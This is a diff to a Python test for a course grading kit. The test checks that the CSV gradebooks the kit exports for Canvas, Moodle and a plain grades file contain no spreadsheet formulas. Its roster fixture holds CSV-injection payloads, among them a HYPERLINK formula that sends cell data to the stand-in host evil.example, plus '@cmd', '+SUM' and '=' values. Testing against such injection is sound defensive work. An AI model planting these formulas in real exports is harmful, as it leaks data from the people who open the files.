@@ -176,11 +176,11 @@ def formula_cells(text):
 
 
 def test_no_csv_cell_the_kit_writes_is_a_formula(term, tmp_path):
-    hostile = [
-        Student("S1", '=HYPERLINK("http://evil.example/?"&A1,"Ada")', "ada@uni.example", "ada", "+SUM(1)"),
-        Student("S2", "@cmd", "bob@uni.example", "bob", "-1+2"),
-    ]
-    write_roster(term["roster"], hostile)
+    term["roster"].write_text(  # by hand: write_roster would quote these itself
+        "student_id,name,email,github,section\n"
+        '"S1","=HYPERLINK(""http://evil.example/?""&A1,""Ada"")",ada@uni.example,ada,+SUM(1)\n'
+        "S2,@cmd,bob@uni.example,bob,-1+2\n"
+    )
     (term["graded"] / "results" / "=HYPERLINK(0).json").write_text(json.dumps(results({"engine: add"})))
     write_gradebooks(term["roster"], term["graded"], "engine", term["submissions"], canvas_id="=1+1")
     for name in ("canvas.csv", "moodle.csv", "grades.csv"):
